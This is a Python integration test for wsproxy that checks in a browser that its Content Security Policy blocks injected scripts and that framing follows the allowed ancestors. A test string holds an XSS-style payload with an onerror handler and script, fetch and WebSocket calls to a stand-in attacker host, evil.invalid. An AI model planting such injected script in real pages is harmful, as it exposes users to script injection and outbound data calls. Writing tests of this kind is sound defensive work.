"""Web clients that wsproxy serves itself, in a real browser: what their policy lets them do, and what not."""

from __future__ import annotations

import os
import unittest
from collections.abc import Sequence
from pathlib import Path

from tests.integration.chromium import Browser, BrowserTestCase
from tests.integration.programs import needs
from wsproxy.proxy import WebsocketProxy
from wsproxy.testing.kubevirt.backends import SocketBackend
from wsproxy.testing.screen.desktop import Desktop

_NOVNC = "/usr/share/novnc"
# What somebody who has written into a page would try; what it is kept from is in the browser's log.
_ATTACK = """
<p id="said"></p>
<script>document.getElementById("said").textContent = "mine";</script>
<img src="x" onerror="document.title = 'run'">
<script src="https://evil.invalid/x.js"></script>
<script type="module">
    const tries = [];
    const attempt = (name, kept) => kept.then(() => tries.push(name), () => {});
    await attempt("fetch", fetch("https://evil.invalid/"));
    await attempt("socket", new Promise((resolve, reject) => {
        const socket = new WebSocket("wss://evil.invalid/");
        socket.onopen = resolve; socket.onerror = reject;
    }));
    try { eval("1"); tries.push("eval"); } catch (error) { }
    if (document.readyState !== "complete") {
        await new Promise(resolve => addEventListener("load", resolve));
    }
    document.getElementById("said").textContent += ` done ${tries}`;
</script>
"""

_FRAME = """
<p id="said"></p>
<script>
    const frame = document.createElement("iframe");
    frame.src = "inner.html";
    frame.onload = () => {
        const text = frame.contentDocument?.body.textContent ?? "nothing";
        document.getElementById("said").textContent = `has ${text}`;
    };
    document.body.append(frame);
</script>
"""


def kept(browser: Browser) -> Sequence[str]:
    """Return what the policy kept the page from."""
    return [text for text in browser.complaints if "Content Security Policy" in text]


@needs("chromium", "chromium")
class WebClientTest(BrowserTestCase):
    def visit(self, proxy: WebsocketProxy, path: str) -> Browser:
        browser = self.start_browser()
        host, port = proxy.address
        browser.open(f"http://{host}:{port}/{path}")
        return browser

    @unittest.skipUnless(os.path.isdir(_NOVNC), "noVNC is not installed (Debian package novnc)")
    def test_novnc(self) -> None:
        """noVNC's own pages show a console; the smaller one has its script in the page."""
        with Desktop("ubuntu") as desktop:
            self.api.add_vmi("ubuntu", self.namespace, backend=SocketBackend(desktop.serve))
            proxy = self.start_proxy(web=_NOVNC, host_path_prefix="/ws")
            _, port = proxy.address
            path = f"ws/{self.token('ubuntu')}/ubuntu"
            for page, connected in (
                ("vnc.html#", "document.documentElement.classList.contains('noVNC_connected')"),
                ("vnc_lite.html?", "document.getElementById('status').textContent.startsWith('Connected')"),
            ):
                with self.subTest(page):
                    query = f"host=127.0.0.1&port={port}&path={path}&autoconnect=1"
                    browser = self.visit(proxy, f"ws/{page}{query}")
                    browser.wait_until(connected)
                    self.assertEqual(kept(browser), [])
                    browser.call("Browser.close")
                    self.assertTrue(self.api.wait_until_idle())

    def test_policy(self) -> None:
        """What stands in a page of the directory may run; it reaches no other host, and nothing else runs."""
        Path(self.directory, "index.html").write_text(_ATTACK, encoding="ascii")
        browser = self.visit(self.start_proxy(web=self.directory), "")
        browser.wait_until("document.getElementById('said').textContent.includes('done')")
        self.assertEqual(browser.evaluate("document.getElementById('said').textContent"), "mine done ")
        self.assertNotEqual(browser.evaluate("document.title"), "run")
        self.assertGreaterEqual(len(kept(browser)), 4)

    def test_frames(self) -> None:
        """A page can be framed by those that are named, and by nobody else."""
        Path(self.directory, "inner.html").write_text("inner", encoding="ascii")
        Path(self.directory, "index.html").write_text(_FRAME, encoding="ascii")
        for ancestors, allowed in ((("self",), True), ((), False)):
            with self.subTest(ancestors=ancestors):
                browser = self.visit(self.start_proxy(web=self.directory, frame_ancestors=ancestors), "")
                browser.wait_for_text("has inner" if allowed else "has nothing")
